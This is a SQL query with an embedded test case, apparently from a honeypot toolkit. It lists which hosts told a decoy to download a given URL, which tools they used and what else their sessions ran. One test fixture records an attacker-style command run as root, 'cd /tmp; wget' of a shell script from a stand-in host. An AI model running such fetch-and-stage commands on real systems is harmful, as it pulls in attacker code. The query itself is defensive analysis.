-- name: url-fetchers
-- title: Every host that fetched this URL
-- description: Who told a decoy to download a URL, with which tool and what else the session did. Nothing was fetched; the URL is
--   where their tools come from.
-- param: url  as written by the visitor
-- case: url=http://203.0.113.9/x.sh
-- given: {"kind":"fetch","time":"2026-11-19T07:00:00Z","remote":"192.0.2.1:4000","session":"01KAGH1ZZ0000000000000000A","fetch":{"url":"http://203.0.113.9/x.sh","tool":"wget"}}
-- given: {"kind":"command","time":"2026-11-19T06:59:59Z","remote":"192.0.2.1:4000","session":"01KAGH1ZZ0000000000000000A","command":{"line":"cd /tmp; wget http://203.0.113.9/x.sh","user":"root"}}
-- given: {"kind":"fetch","time":"2026-11-20T07:00:00Z","remote":"192.0.2.2:4000","fetch":{"url":"http://203.0.113.9/y.sh","tool":"curl"}}
-- expect: [{"src_ip":"192.0.2.1","downloads":1,"tools":["wget"],"commands":["cd /tmp; wget http://203.0.113.9/x.sh"]}]
WITH asked AS (
  SELECT src_ip, count(*) AS downloads, min(time) AS first_seen, max(time) AS last_seen, list_sort(list_distinct(list(tool))) AS tools,
    list_distinct(list(session)) AS sessions
  FROM downloads
  WHERE url = $url
  GROUP BY src_ip
)
SELECT a.src_ip, a.downloads, a.first_seen, a.last_seen, a.tools,
  (SELECT list(c.command ORDER BY c.time) FROM commands c WHERE list_contains(a.sessions, c.session)) AS commands
FROM asked a
ORDER BY a.first_seen, a.src_ip
